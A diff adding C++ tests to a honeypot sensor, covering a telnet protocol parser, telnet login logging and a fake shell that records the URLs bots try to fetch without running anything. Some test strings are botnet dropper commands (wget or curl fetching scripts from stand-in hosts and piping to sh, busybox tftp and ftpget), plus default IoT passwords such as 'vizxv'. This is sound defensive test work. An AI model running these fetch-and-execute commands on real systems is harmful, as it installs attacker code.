@@ -17,6 +17,8 @@
 #include "pipeline/jsonl_decoder.h"
 #include "sensors/honeypot/ftp/ftp.h"
 #include "sensors/honeypot/redis/redis.h"
+#include "sensors/honeypot/shell/shell.h"
+#include "sensors/honeypot/telnet/telnet.h"
 
 namespace vantage::honeypot {
 namespace {
@@ -325,6 +327,144 @@ TEST_F(HoneypotFixture, FtpBoundsLinesAndKeepsWhatWasLogged) {
   auto evs = of_service(events(), "ftp");
   ASSERT_EQ(evs.size(), 1u);
   EXPECT_EQ(field(evs[0], "password"), "b");
+}
+
+TEST(TelnetReader, SplitsNegotiationsSubnegotiationsAndLines) {
+  telnet::Reader r;
+  std::vector<telnet::Item> items;
+  std::string echo;
+  // WILL TTYPE, SB TTYPE IS "XTERM" with an escaped IAC, SB NAWS 80x24, then a line with a
+  // backspace, ended by CR NUL.
+  using namespace std::string_literals;
+  std::string in =
+      "\xff\xfb\x18\xff\xfa\x18\x00XT\xff\xff"
+      "ERM\xff\xf0\xff\xfa\x1f\x00\x50\x00\x18\xff\xf0"
+      "roox\x08t\r\0pw"s;
+  size_t used = r.feed(in, items, &echo);
+  ASSERT_EQ(items.size(), 4u);
+  EXPECT_EQ(items[0].kind, telnet::Item::Kind::kNegotiation);
+  EXPECT_EQ(items[0].command, telnet::kWill);
+  EXPECT_EQ(items[0].option, telnet::kOptTtype);
+  EXPECT_EQ(items[1].kind, telnet::Item::Kind::kSubnegotiation);
+  std::string name;
+  ASSERT_TRUE(telnet::parse_ttype(items[1].text, name));
+  EXPECT_EQ(name,
+            "XT\xff"
+            "ERM");
+  uint16_t w = 0, h = 0;
+  ASSERT_TRUE(telnet::parse_naws(items[2].text, w, h));
+  EXPECT_EQ(w, 80);
+  EXPECT_EQ(h, 24);
+  EXPECT_EQ(items[3].text, "root");
+  EXPECT_EQ(echo, "roox\b \bt\r\n");
+  // It stopped after the line; the CR NUL and "pw" come next, "pw" kept as a partial line.
+  items.clear();
+  std::string rest = in.substr(used);
+  EXPECT_EQ(r.feed(rest, items, nullptr), rest.size());
+  EXPECT_TRUE(items.empty());
+  EXPECT_EQ(r.feed("\n", items, nullptr), 1u);
+  ASSERT_EQ(items.size(), 1u);
+  EXPECT_EQ(items[0].text, "pw");
+  // An IAC sequence cut short is left for later; oversized lines and subnegotiations stop it.
+  items.clear();
+  EXPECT_EQ(r.feed("ab\xff\xfa\x18", items, nullptr), 2u);
+  telnet::Reader small(telnet::Limits{8, 4});
+  items.clear();
+  small.feed(std::string(20, 'x'), items, nullptr);
+  ASSERT_EQ(items.size(), 1u);
+  EXPECT_EQ(items[0].kind, telnet::Item::Kind::kTooLong);
+  items.clear();
+  telnet::Reader small2(telnet::Limits{8, 4});
+  small2.feed("\xff\xfa\x18" + std::string(10, 'y'), items, nullptr);
+  ASSERT_EQ(items.size(), 1u);
+  EXPECT_EQ(items[0].kind, telnet::Item::Kind::kTooLong);
+  EXPECT_FALSE(telnet::parse_naws("abc", w, h));
+  EXPECT_FALSE(telnet::parse_ttype("\x01", name));
+}
+
+TEST_F(HoneypotFixture, TelnetLogsLoginsWithTheTerminalType) {
+  settings_.max_attempts = 2;
+  start({"telnet"});
+  run();
+  int fd = connect_to("telnet");
+  std::string hello = read_until(fd, "Username: ");
+  EXPECT_EQ(hello.substr(0, 12), "\xff\xfb\x01\xff\xfb\x03\xff\xfd\x18\xff\xfd\x1f");
+  send_all(fd, "\xff\xfb\x18\xff\xfd\x05");  // WILL TTYPE, DO STATUS
+  std::string asked = read_until(fd, "\xff\xfc\x05");
+  EXPECT_NE(asked.find("\xff\xfa\x18\x01\xff\xf0"), std::string::npos);  // SB TTYPE SEND
+  send_all(fd, std::string("\xff\xfa\x18\x00VT100\xff\xf0", 11));
+  send_all(fd, "root\r\n");
+  EXPECT_NE(read_until(fd, "Password: ").find("root\r\nPassword: "), std::string::npos);
+  send_all(fd, std::string("s3cret\r\0", 8));
+  std::string failed = read_until(fd, "Username: ");
+  EXPECT_EQ(failed.find("s3cret"), std::string::npos);  // a password is not echoed
+  EXPECT_NE(failed.find("Login incorrect"), std::string::npos);
+  send_all(fd, "admin\radx\x7fmin\r");
+  EXPECT_NE(read_until(fd, "Login incorrect\r\n").find("Login incorrect"), std::string::npos);
+  EXPECT_TRUE(closed_by_peer(fd));  // max_attempts = 2
+  ::close(fd);
+  auto evs = of_service(events(), "telnet");
+  ASSERT_EQ(evs.size(), 2u);
+  EXPECT_EQ(field(evs[0], "username"), "root");
+  EXPECT_EQ(field(evs[0], "password"), "s3cret");
+  EXPECT_EQ(field(evs[0], "client_version"), "VT100");
+  EXPECT_EQ(field(evs[1], "username"), "admin");
+  EXPECT_EQ(field(evs[1], "password"), "admin");
+  EXPECT_EQ(field(evs[1], "tag"), "telnet-brute-force");
+}
+
+TEST(FakeShell, FindsTheUrlsBotsFetchAndRunsNothing) {
+  auto urls = shell::fetch_urls(
+      "cd /tmp || cd /var/run; wget http://198.51.100.7/bins.sh; chmod 777 bins.sh; "
+      "sh bins.sh; busybox tftp -g -r mips 203.0.113.9; tftp 203.0.113.9 -c get arm7; "
+      "curl -o x.sh -A 'Mozilla' https://evil.example/x.sh|sh; /bin/busybox wget -O- "
+      "evil.example:8080/y; ftpget -u a -p b 192.0.2.1 local.bin remote.bin; echo http://no");
+  std::vector<std::string> want = {"http://198.51.100.7/bins.sh", "tftp://203.0.113.9/mips",
+                                   "tftp://203.0.113.9/arm7",     "https://evil.example/x.sh",
+                                   "http://evil.example:8080/y",  "ftp://192.0.2.1/remote.bin"};
+  EXPECT_EQ(urls, want);
+  auto r = shell::respond("uname -a; whoami; /bin/busybox ECCHI; nosuch", "root");
+  EXPECT_NE(r.output.find("Linux server"), std::string::npos);
+  EXPECT_NE(r.output.find("root\n"), std::string::npos);
+  EXPECT_NE(r.output.find("ECCHI: applet not found"), std::string::npos);
+  EXPECT_NE(r.output.find("nosuch: command not found"), std::string::npos);
+  EXPECT_FALSE(r.exit);
+  EXPECT_TRUE(shell::respond("ls; exit; wget http://after.example/", "root").exit);
+  std::string many;
+  for (int i = 0; i < 40; ++i) many += "wget http://h" + std::to_string(i) + ".example/;";
+  EXPECT_EQ(shell::fetch_urls(many).size(), shell::kMaxUrls);
+  EXPECT_EQ(shell::fetch_urls("wget http://" + std::string(5000, 'a'))[0].size(),
+            shell::kMaxUrlBytes);
+}
+
+TEST_F(HoneypotFixture, TelnetMediumModeShellLogsUrlsAndFetchesNothing) {
+  settings_.mode = "medium";
+  start({"telnet"});
+  run();
+  int fd = connect_to("telnet");
+  read_until(fd, "Username: ");
+  send_all(fd, "guest\r\n");
+  read_until(fd, "Password: ");
+  send_all(fd, "guest\r\n");
+  read_until(fd, "Username: ");  // not root/admin: refused as in low mode
+  send_all(fd, "root\r\n");
+  read_until(fd, "Password: ");
+  send_all(fd, "vizxv\r\n");
+  EXPECT_NE(read_until(fd, "# ").find("root@server:~# "), std::string::npos);
+  send_all(fd, "cd /tmp; wget http://198.51.100.7/x.sh; sh x.sh\r\n");
+  std::string out = read_until(fd, "# ");
+  EXPECT_NE(out.find("unable to resolve host address '198.51.100.7'"), std::string::npos);
+  send_all(fd, "exit\r\n");
+  EXPECT_TRUE(closed_by_peer(fd));
+  ::close(fd);
+  auto evs = of_service(events(), "telnet");
+  ASSERT_EQ(evs.size(), 3u);
+  EXPECT_EQ(field(evs[0], "tag"), "telnet-brute-force");
+  EXPECT_EQ(field(evs[1], "tag"), "telnet-login");
+  EXPECT_EQ(field(evs[1], "password"), "vizxv");
+  EXPECT_EQ(field(evs[2], "tag"), "telnet-payload");
+  EXPECT_EQ(field(evs[2], "payload_url"), "http://198.51.100.7/x.sh");
+  EXPECT_EQ(field(evs[2], "username"), "");
 }
 
 }  // namespace
